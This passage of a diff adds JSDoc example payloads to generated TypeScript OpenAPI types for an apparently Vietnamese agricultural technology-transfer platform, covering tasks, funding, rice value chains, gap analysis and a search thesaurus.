+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Task"];
                 };
             };
@@ -13987,6 +18356,17 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "outputs": [
+                 *         {
+                 *           "title": "Mô hình sấy lúa tại HTX Giao Thủy",
+                 *           "kind": "model",
+                 *           "deliveredOn": "2026-10-15"
+                 *         }
+                 *       ]
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateTaskRequest"];
             };
         };
@@ -14002,6 +18382,88 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "f328a781-22f0-4f44-b876-24ae65142e7f",
+                     *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *       "lead": {
+                     *         "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "startsOn": "2026-03-01",
+                     *       "endsOn": "2027-02-28",
+                     *       "status": "in_progress",
+                     *       "partners": [
+                     *         {
+                     *           "organization": {
+                     *             "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *             "name": "Viện Cơ điện Nông nghiệp",
+                     *             "kind": "research_institute"
+                     *           },
+                     *           "role": "st_organization",
+                     *           "contribution": "Chuyển giao máy sấy"
+                     *         },
+                     *         {
+                     *           "organization": {
+                     *             "id": "0ff2bf59-ee8c-46ce-ac64-d979a6571362",
+                     *             "name": "HTX Nông nghiệp Giao Thủy",
+                     *             "kind": "enterprise"
+                     *           },
+                     *           "role": "enterprise",
+                     *           "contribution": null
+                     *         }
+                     *       ],
+                     *       "invitedPartners": [],
+                     *       "funding": [
+                     *         {
+                     *           "source": "provincial",
+                     *           "amountVnd": 1500000000,
+                     *           "note": null
+                     *         },
+                     *         {
+                     *           "source": "enterprise",
+                     *           "amountVnd": 500000000,
+                     *           "note": "Đối ứng của hợp tác xã"
+                     *         }
+                     *       ],
+                     *       "fundingTotalVnd": 2000000000,
+                     *       "listingIds": [
+                     *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *       ],
+                     *       "demandIds": [
+                     *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *       ],
+                     *       "dealIds": [
+                     *         "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                     *       ],
+                     *       "outputs": [
+                     *         {
+                     *           "title": "Mô hình sấy lúa tại HTX Giao Thủy",
+                     *           "kind": "model",
+                     *           "deliveredOn": "2026-10-15"
+                     *         }
+                     *       ],
+                     *       "approvedAt": "2026-03-02T03:00:00.000Z",
+                     *       "completedOn": null,
+                     *       "cancelReason": null,
+                     *       "statusChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "roles": [
+                     *         "lead"
+                     *       ],
+                     *       "allowedTransitions": [
+                     *         "complete",
+                     *         "cancel"
+                     *       ],
+                     *       "version": 7,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Task"];
                 };
             };
@@ -14169,6 +18631,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "transition": "approve"
+                 *     }
+                 */
                 "application/json": components["schemas"]["TransitionTaskRequest"];
             };
         };
@@ -14185,6 +18652,82 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "f328a781-22f0-4f44-b876-24ae65142e7f",
+                     *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *       "lead": {
+                     *         "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "startsOn": "2026-03-01",
+                     *       "endsOn": "2027-02-28",
+                     *       "status": "approved",
+                     *       "partners": [
+                     *         {
+                     *           "organization": {
+                     *             "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *             "name": "Viện Cơ điện Nông nghiệp",
+                     *             "kind": "research_institute"
+                     *           },
+                     *           "role": "st_organization",
+                     *           "contribution": "Chuyển giao máy sấy"
+                     *         },
+                     *         {
+                     *           "organization": {
+                     *             "id": "0ff2bf59-ee8c-46ce-ac64-d979a6571362",
+                     *             "name": "HTX Nông nghiệp Giao Thủy",
+                     *             "kind": "enterprise"
+                     *           },
+                     *           "role": "enterprise",
+                     *           "contribution": null
+                     *         }
+                     *       ],
+                     *       "invitedPartners": [],
+                     *       "funding": [
+                     *         {
+                     *           "source": "provincial",
+                     *           "amountVnd": 1500000000,
+                     *           "note": null
+                     *         },
+                     *         {
+                     *           "source": "enterprise",
+                     *           "amountVnd": 500000000,
+                     *           "note": "Đối ứng của hợp tác xã"
+                     *         }
+                     *       ],
+                     *       "fundingTotalVnd": 2000000000,
+                     *       "listingIds": [
+                     *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *       ],
+                     *       "demandIds": [
+                     *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *       ],
+                     *       "dealIds": [
+                     *         "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                     *       ],
+                     *       "outputs": [],
+                     *       "approvedAt": "2026-03-02T03:00:00.000Z",
+                     *       "completedOn": null,
+                     *       "cancelReason": null,
+                     *       "statusChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "roles": [
+                     *         "partner",
+                     *         "authority"
+                     *       ],
+                     *       "allowedTransitions": [
+                     *         "cancel"
+                     *       ],
+                     *       "version": 5,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Task"];
                 };
             };
@@ -14365,6 +18908,70 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "f328a781-22f0-4f44-b876-24ae65142e7f",
+                     *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *       "lead": {
+                     *         "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "startsOn": "2026-03-01",
+                     *       "endsOn": "2027-02-28",
+                     *       "status": "proposed",
+                     *       "partners": [
+                     *         {
+                     *           "organization": {
+                     *             "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *             "name": "Viện Cơ điện Nông nghiệp",
+                     *             "kind": "research_institute"
+                     *           },
+                     *           "role": "st_organization",
+                     *           "contribution": "Chuyển giao máy sấy"
+                     *         }
+                     *       ],
+                     *       "invitedPartners": [],
+                     *       "funding": [
+                     *         {
+                     *           "source": "provincial",
+                     *           "amountVnd": 1500000000,
+                     *           "note": null
+                     *         },
+                     *         {
+                     *           "source": "enterprise",
+                     *           "amountVnd": 500000000,
+                     *           "note": "Đối ứng của hợp tác xã"
+                     *         }
+                     *       ],
+                     *       "fundingTotalVnd": 2000000000,
+                     *       "listingIds": [
+                     *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *       ],
+                     *       "demandIds": [
+                     *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *       ],
+                     *       "dealIds": [
+                     *         "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                     *       ],
+                     *       "outputs": [],
+                     *       "approvedAt": null,
+                     *       "completedOn": null,
+                     *       "cancelReason": null,
+                     *       "statusChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "roles": [
+                     *         "partner"
+                     *       ],
+                     *       "allowedTransitions": [],
+                     *       "version": 2,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Task"];
                 };
             };
@@ -14532,6 +19139,56 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "8bbc1135-b1fc-43ad-9e9b-1e51819271bb",
+                     *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *       "lead": {
+                     *         "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "startsOn": "2026-03-01",
+                     *       "endsOn": "2027-02-28",
+                     *       "status": "proposed",
+                     *       "partners": [],
+                     *       "invitedPartners": [],
+                     *       "funding": [
+                     *         {
+                     *           "source": "provincial",
+                     *           "amountVnd": 1500000000,
+                     *           "note": null
+                     *         },
+                     *         {
+                     *           "source": "enterprise",
+                     *           "amountVnd": 500000000,
+                     *           "note": "Đối ứng của hợp tác xã"
+                     *         }
+                     *       ],
+                     *       "fundingTotalVnd": 2000000000,
+                     *       "listingIds": [
+                     *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *       ],
+                     *       "demandIds": [
+                     *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *       ],
+                     *       "dealIds": [],
+                     *       "outputs": [],
+                     *       "approvedAt": null,
+                     *       "completedOn": null,
+                     *       "cancelReason": null,
+                     *       "statusChangedAt": "2026-12-01T18:30:00.000Z",
+                     *       "roles": [],
+                     *       "allowedTransitions": [],
+                     *       "version": 2,
+                     *       "createdAt": "2026-12-01T18:30:00.000Z",
+                     *       "updatedAt": "2026-12-01T18:30:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Task"];
                 };
             };
@@ -14702,6 +19359,38 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": 1,
+                     *           "transition": "propose",
+                     *           "fromState": null,
+                     *           "toState": "proposed",
+                     *           "actorRole": "lead",
+                     *           "actorOrganizationId": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *           "payload": {
+                     *             "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định"
+                     *           },
+                     *           "occurredAt": "2026-03-02T03:00:00.000Z"
+                     *         },
+                     *         {
+                     *           "id": 2,
+                     *           "transition": "partner_accepted",
+                     *           "fromState": "proposed",
+                     *           "toState": "proposed",
+                     *           "actorRole": "invitee",
+                     *           "actorOrganizationId": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *           "payload": {
+                     *             "role": "st_organization",
+                     *             "organizationId": "87f5362b-18a0-4753-ab26-500738e1cee1"
+                     *           },
+                     *           "occurredAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["TaskHistory"];
                 };
             };
@@ -14818,6 +19507,110 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "ab2a867c-1a48-4405-be20-4f144edfb5b0",
+                     *           "owner": {
+                     *             "id": "5ff02cce-4b8d-413f-ab88-fa35242a0390",
+                     *             "name": "Sở Khoa học và Công nghệ Nam Định",
+                     *             "kind": "authority"
+                     *           },
+                     *           "title": "Chuỗi dê núi",
+                     *           "keyProduct": "Dê núi",
+                     *           "description": null,
+                     *           "provinceCode": "36",
+                     *           "currentProvinceCode": "37",
+                     *           "stages": [
+                     *             {
+                     *               "id": "07b83efb-ad57-45dd-a38f-42dfb8388421",
+                     *               "position": 1,
+                     *               "kind": "production",
+                     *               "title": "Sản xuất, nuôi trồng",
+                     *               "description": null,
+                     *               "keywords": [],
+                     *               "listings": [],
+                     *               "organizations": []
+                     *             }
+                     *           ],
+                     *           "version": 1,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *         },
+                     *         {
+                     *           "id": "4b9ed3af-345d-4d5e-8bb0-b18c96906df1",
+                     *           "owner": {
+                     *             "id": "5ff02cce-4b8d-413f-ab88-fa35242a0390",
+                     *             "name": "Sở Khoa học và Công nghệ Nam Định",
+                     *             "kind": "authority"
+                     *           },
+                     *           "title": "Chuỗi giá trị lúa gạo Nam Định",
+                     *           "keyProduct": "Lúa gạo",
+                     *           "description": null,
+                     *           "provinceCode": "36",
+                     *           "currentProvinceCode": "37",
+                     *           "stages": [
+                     *             {
+                     *               "id": "d1eaa9ca-fc68-47c4-a17d-8026fd005ae1",
+                     *               "position": 1,
+                     *               "kind": "inputs",
+                     *               "title": "Giống lúa chất lượng cao",
+                     *               "description": null,
+                     *               "keywords": [
+                     *                 "giống lúa"
+                     *               ],
+                     *               "listings": [
+                     *                 {
+                     *                   "id": "c8ad6020-e7da-4eea-a9d3-fac38f15b242",
+                     *                   "titleVi": "Giống lúa thuần chất lượng cao ĐS1",
+                     *                   "status": "published",
+                     *                   "available": true
+                     *                 }
+                     *               ],
+                     *               "organizations": [
+                     *                 {
+                     *                   "id": "37096cd7-3975-4a48-85a9-d7993ca189bb",
+                     *                   "name": "Viện Cây lương thực và Cây thực phẩm",
+                     *                   "kind": "research_institute"
+                     *                 }
+                     *               ]
+                     *             },
+                     *             {
+                     *               "id": "1f50efda-e55a-41b0-8b11-90596544206a",
+                     *               "position": 2,
+                     *               "kind": "harvest_preservation",
+                     *               "title": "Thu hoạch, bảo quản",
+                     *               "description": null,
+                     *               "keywords": [
+                     *                 "sấy thóc",
+                     *                 "bảo quản thóc"
+                     *               ],
+                     *               "listings": [
+                     *                 {
+                     *                   "id": "6ea91d53-45a0-4a1d-b92f-df198ef5ba69",
+                     *                   "titleVi": "Kho bảo quản thóc cũ",
+                     *                   "status": "withdrawn",
+                     *                   "available": false
+                     *                 },
+                     *                 {
+                     *                   "id": "66f22319-4a2d-4676-a9b9-bf904edc1ca5",
+                     *                   "titleVi": "Máy sấy tầng sôi cho thóc",
+                     *                   "status": "published",
+                     *                   "available": true
+                     *                 }
+                     *               ],
+                     *               "organizations": []
+                     *             }
+                     *           ],
+                     *           "version": 2,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["ValueChainPage"];
                 };
             };
@@ -14901,6 +19694,38 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "title": "Chuỗi giá trị lúa gạo Nam Định",
+                 *       "keyProduct": "Lúa gạo",
+                 *       "provinceCode": "36",
+                 *       "stages": [
+                 *         {
+                 *           "kind": "inputs",
+                 *           "title": "Giống lúa chất lượng cao",
+                 *           "keywords": [
+                 *             "giống lúa"
+                 *           ],
+                 *           "listingIds": [
+                 *             "c8ad6020-e7da-4eea-a9d3-fac38f15b242"
+                 *           ],
+                 *           "organizationIds": [
+                 *             "37096cd7-3975-4a48-85a9-d7993ca189bb"
+                 *           ]
+                 *         },
+                 *         {
+                 *           "kind": "harvest_preservation",
+                 *           "keywords": [
+                 *             "sấy thóc",
+                 *             "bảo quản thóc"
+                 *           ],
+                 *           "listingIds": [
+                 *             "6ea91d53-45a0-4a1d-b92f-df198ef5ba69"
+                 *           ]
+                 *         }
+                 *       ]
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateValueChainRequest"];
             };
         };
@@ -14918,6 +19743,71 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "4b9ed3af-345d-4d5e-8bb0-b18c96906df1",
+                     *       "owner": {
+                     *         "id": "5ff02cce-4b8d-413f-ab88-fa35242a0390",
+                     *         "name": "Sở Khoa học và Công nghệ Nam Định",
+                     *         "kind": "authority"
+                     *       },
+                     *       "title": "Chuỗi giá trị lúa gạo Nam Định",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "description": null,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "stages": [
+                     *         {
+                     *           "id": "ebf8ca0d-f11a-4039-9b4d-a74d583020a2",
+                     *           "position": 1,
+                     *           "kind": "inputs",
+                     *           "title": "Giống lúa chất lượng cao",
+                     *           "description": null,
+                     *           "keywords": [
+                     *             "giống lúa"
+                     *           ],
+                     *           "listings": [
+                     *             {
+                     *               "id": "c8ad6020-e7da-4eea-a9d3-fac38f15b242",
+                     *               "titleVi": "Giống lúa thuần chất lượng cao ĐS1",
+                     *               "status": "published",
+                     *               "available": true
+                     *             }
+                     *           ],
+                     *           "organizations": [
+                     *             {
+                     *               "id": "37096cd7-3975-4a48-85a9-d7993ca189bb",
+                     *               "name": "Viện Cây lương thực và Cây thực phẩm",
+                     *               "kind": "research_institute"
+                     *             }
+                     *           ]
+                     *         },
+                     *         {
+                     *           "id": "c3c9ef37-057a-4046-ae9c-92b7365f3034",
+                     *           "position": 2,
+                     *           "kind": "harvest_preservation",
+                     *           "title": "Thu hoạch, bảo quản",
+                     *           "description": null,
+                     *           "keywords": [
+                     *             "sấy thóc",
+                     *             "bảo quản thóc"
+                     *           ],
+                     *           "listings": [
+                     *             {
+                     *               "id": "6ea91d53-45a0-4a1d-b92f-df198ef5ba69",
+                     *               "titleVi": "Kho bảo quản thóc cũ",
+                     *               "status": "withdrawn",
+                     *               "available": false
+                     *             }
+                     *           ],
+                     *           "organizations": []
+                     *         }
+                     *       ],
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ValueChain"];
                 };
             };
@@ -15070,6 +19960,71 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "4b9ed3af-345d-4d5e-8bb0-b18c96906df1",
+                     *       "owner": {
+                     *         "id": "5ff02cce-4b8d-413f-ab88-fa35242a0390",
+                     *         "name": "Sở Khoa học và Công nghệ Nam Định",
+                     *         "kind": "authority"
+                     *       },
+                     *       "title": "Chuỗi giá trị lúa gạo Nam Định",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "description": null,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "stages": [
+                     *         {
+                     *           "id": "ebf8ca0d-f11a-4039-9b4d-a74d583020a2",
+                     *           "position": 1,
+                     *           "kind": "inputs",
+                     *           "title": "Giống lúa chất lượng cao",
+                     *           "description": null,
+                     *           "keywords": [
+                     *             "giống lúa"
+                     *           ],
+                     *           "listings": [
+                     *             {
+                     *               "id": "c8ad6020-e7da-4eea-a9d3-fac38f15b242",
+                     *               "titleVi": "Giống lúa thuần chất lượng cao ĐS1",
+                     *               "status": "published",
+                     *               "available": true
+                     *             }
+                     *           ],
+                     *           "organizations": [
+                     *             {
+                     *               "id": "37096cd7-3975-4a48-85a9-d7993ca189bb",
+                     *               "name": "Viện Cây lương thực và Cây thực phẩm",
+                     *               "kind": "research_institute"
+                     *             }
+                     *           ]
+                     *         },
+                     *         {
+                     *           "id": "c3c9ef37-057a-4046-ae9c-92b7365f3034",
+                     *           "position": 2,
+                     *           "kind": "harvest_preservation",
+                     *           "title": "Thu hoạch, bảo quản",
+                     *           "description": null,
+                     *           "keywords": [
+                     *             "sấy thóc",
+                     *             "bảo quản thóc"
+                     *           ],
+                     *           "listings": [
+                     *             {
+                     *               "id": "6ea91d53-45a0-4a1d-b92f-df198ef5ba69",
+                     *               "titleVi": "Kho bảo quản thóc cũ",
+                     *               "status": "withdrawn",
+                     *               "available": false
+                     *             }
+                     *           ],
+                     *           "organizations": []
+                     *         }
+                     *       ],
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ValueChain"];
                 };
             };
@@ -15169,6 +20124,36 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "stages": [
+                 *         {
+                 *           "kind": "inputs",
+                 *           "title": "Giống lúa chất lượng cao",
+                 *           "keywords": [
+                 *             "giống lúa"
+                 *           ],
+                 *           "listingIds": [
+                 *             "c8ad6020-e7da-4eea-a9d3-fac38f15b242"
+                 *           ],
+                 *           "organizationIds": [
+                 *             "37096cd7-3975-4a48-85a9-d7993ca189bb"
+                 *           ]
+                 *         },
+                 *         {
+                 *           "kind": "harvest_preservation",
+                 *           "keywords": [
+                 *             "sấy thóc",
+                 *             "bảo quản thóc"
+                 *           ],
+                 *           "listingIds": [
+                 *             "6ea91d53-45a0-4a1d-b92f-df198ef5ba69",
+                 *             "66f22319-4a2d-4676-a9b9-bf904edc1ca5"
+                 *           ]
+                 *         }
+                 *       ]
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateValueChainRequest"];
             };
         };
@@ -15184,6 +20169,77 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "4b9ed3af-345d-4d5e-8bb0-b18c96906df1",
+                     *       "owner": {
+                     *         "id": "5ff02cce-4b8d-413f-ab88-fa35242a0390",
+                     *         "name": "Sở Khoa học và Công nghệ Nam Định",
+                     *         "kind": "authority"
+                     *       },
+                     *       "title": "Chuỗi giá trị lúa gạo Nam Định",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "description": null,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "stages": [
+                     *         {
+                     *           "id": "d1eaa9ca-fc68-47c4-a17d-8026fd005ae1",
+                     *           "position": 1,
+                     *           "kind": "inputs",
+                     *           "title": "Giống lúa chất lượng cao",
+                     *           "description": null,
+                     *           "keywords": [
+                     *             "giống lúa"
+                     *           ],
+                     *           "listings": [
+                     *             {
+                     *               "id": "c8ad6020-e7da-4eea-a9d3-fac38f15b242",
+                     *               "titleVi": "Giống lúa thuần chất lượng cao ĐS1",
+                     *               "status": "published",
+                     *               "available": true
+                     *             }
+                     *           ],
+                     *           "organizations": [
+                     *             {
+                     *               "id": "37096cd7-3975-4a48-85a9-d7993ca189bb",
+                     *               "name": "Viện Cây lương thực và Cây thực phẩm",
+                     *               "kind": "research_institute"
+                     *             }
+                     *           ]
+                     *         },
+                     *         {
+                     *           "id": "1f50efda-e55a-41b0-8b11-90596544206a",
+                     *           "position": 2,
+                     *           "kind": "harvest_preservation",
+                     *           "title": "Thu hoạch, bảo quản",
+                     *           "description": null,
+                     *           "keywords": [
+                     *             "sấy thóc",
+                     *             "bảo quản thóc"
+                     *           ],
+                     *           "listings": [
+                     *             {
+                     *               "id": "6ea91d53-45a0-4a1d-b92f-df198ef5ba69",
+                     *               "titleVi": "Kho bảo quản thóc cũ",
+                     *               "status": "withdrawn",
+                     *               "available": false
+                     *             },
+                     *             {
+                     *               "id": "66f22319-4a2d-4676-a9b9-bf904edc1ca5",
+                     *               "titleVi": "Máy sấy tầng sôi cho thóc",
+                     *               "status": "published",
+                     *               "available": true
+                     *             }
+                     *           ],
+                     *           "organizations": []
+                     *         }
+                     *       ],
+                     *       "version": 2,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ValueChain"];
                 };
             };
@@ -15360,6 +20416,72 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "chainId": "8f07f2ea-103e-51a0-8315-d2f7968ff46f",
+                     *       "stageCount": 5,
+                     *       "gaps": [
+                     *         {
+                     *           "stage": {
+                     *             "id": "695cbe6e-6f0b-591a-b164-7caa689a10e5",
+                     *             "position": 3,
+                     *             "kind": "harvest_preservation",
+                     *             "title": "Sấy và bảo quản thóc",
+                     *             "keywords": [
+                     *               "sấy lúa",
+                     *               "bảo quản thóc"
+                     *             ]
+                     *           },
+                     *           "listings": [],
+                     *           "demands": [
+                     *             {
+                     *               "id": "bdc4d082-51ab-5e50-ab16-7ec988b0a90a",
+                     *               "titleVi": "Cần hệ thống sấy lúa hữu cơ 10 tấn/mẻ",
+                     *               "inProvince": true,
+                     *               "score": 0.362,
+                     *               "currentProvinceCode": "37"
+                     *             },
+                     *             {
+                     *               "id": "2c21526d-d814-5b7d-99da-a9cc721fa61e",
+                     *               "titleVi": "Công nghệ sấy chuối giữ màu tự nhiên, không dùng chất bảo quản",
+                     *               "inProvince": true,
+                     *               "score": 0.362,
+                     *               "currentProvinceCode": "37"
+                     *             }
+                     *           ]
+                     *         },
+                     *         {
+                     *           "stage": {
+                     *             "id": "4e3fe1a1-a679-5511-8b19-59146a09e2f4",
+                     *             "position": 4,
+                     *             "kind": "processing",
+                     *             "title": "Xay xát, chế biến gạo",
+                     *             "keywords": [
+                     *               "xay xát",
+                     *               "chế biến gạo"
+                     *             ]
+                     *           },
+                     *           "listings": [],
+                     *           "demands": [
+                     *             {
+                     *               "id": "149ad017-2be4-5623-9362-c1ed0012c46b",
+                     *               "titleVi": "Nâng cấp trạm xử lý nước thải nhà máy chế biến thực phẩm 300 m³/ngày",
+                     *               "inProvince": true,
+                     *               "score": 0.38,
+                     *               "currentProvinceCode": "37"
+                     *             },
+                     *             {
+                     *               "id": "10ca610e-5d0d-56ef-ad50-c8e14b96d173",
+                     *               "titleVi": "Cơ giới hoá thu hái và tự động hoá chế biến chè xanh",
+                     *               "inProvince": false,
+                     *               "score": 0.304,
+                     *               "currentProvinceCode": "25"
+                     *             }
+                     *           ]
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ValueChainGaps"];
                 };
             };
@@ -15475,6 +20597,12 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["ThesaurusPage"];
                 };
             };
@@ -15558,6 +20686,17 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "kind": "expansion",
+                 *       "trigger": "  Vườn  cà phê bị   rệp sáp ",
+                 *       "phrases": [
+                 *         "Chế phẩm nấm xanh Metarhizium",
+                 *         "bẫy dính màu vàng"
+                 *       ],
+                 *       "note": "Khuyến nông Tây Nguyên"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateThesaurusEntryRequest"];
             };
         };
@@ -15575,6 +20714,32 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "15d1e890-5470-40c4-9a91-0a172bc5db96",
+                     *       "kind": "expansion",
+                     *       "trigger": "Vườn cà phê bị rệp sáp",
+                     *       "phrases": [
+                     *         "Chế phẩm nấm xanh Metarhizium",
+                     *         "bẫy dính màu vàng"
+                     *       ],
+                     *       "exceptions": [],
+                     *       "folded": {
+                     *         "trigger": "vuon ca phe bi rep sap",
+                     *         "phrases": [
+                     *           "che pham nam xanh metarhizium",
+                     *           "bay dinh mau vang"
+                     *         ],
+                     *         "exceptions": []
+                     *       },
+                     *       "weight": 0.6,
+                     *       "note": "Khuyến nông Tây Nguyên",
+                     *       "starterKey": null,
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ThesaurusEntry"];
                 };
             };
@@ -15727,6 +20892,57 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "q": "Trại HEO RỪNG LAI bốc mùi quá!",
+                     *       "folded": "trai heo rung lai boc mui qua",
+                     *       "applied": [
+                     *         {
+                     *           "entryId": "fe69a319-b029-4f12-8790-96736649b8fd",
+                     *           "kind": "expansion",
+                     *           "matched": {
+                     *             "phrase": "trại heo rừng lai bốc mùi",
+                     *             "folded": "trai heo rung lai boc mui",
+                     *             "start": 0,
+                     *             "length": 6
+                     *           },
+                     *           "subsumed": false,
+                     *           "weight": 0.5,
+                     *           "add": [
+                     *             {
+                     *               "phrase": "đệm lót sinh học",
+                     *               "folded": "dem lot sinh hoc",
+                     *               "weight": 0.5
+                     *             },
+                     *             {
+                     *               "phrase": "chế phẩm khử mùi",
+                     *               "folded": "che pham khu mui",
+                     *               "weight": 0.5
+                     *             }
+                     *           ]
+                     *         },
+                     *         {
+                     *           "entryId": "cd57ef69-62eb-4c41-8d1f-6a24fbb2a3a9",
+                     *           "kind": "synonym",
+                     *           "matched": {
+                     *             "phrase": "heo rừng lai",
+                     *             "folded": "heo rung lai",
+                     *             "start": 1,
+                     *             "length": 3
+                     *           },
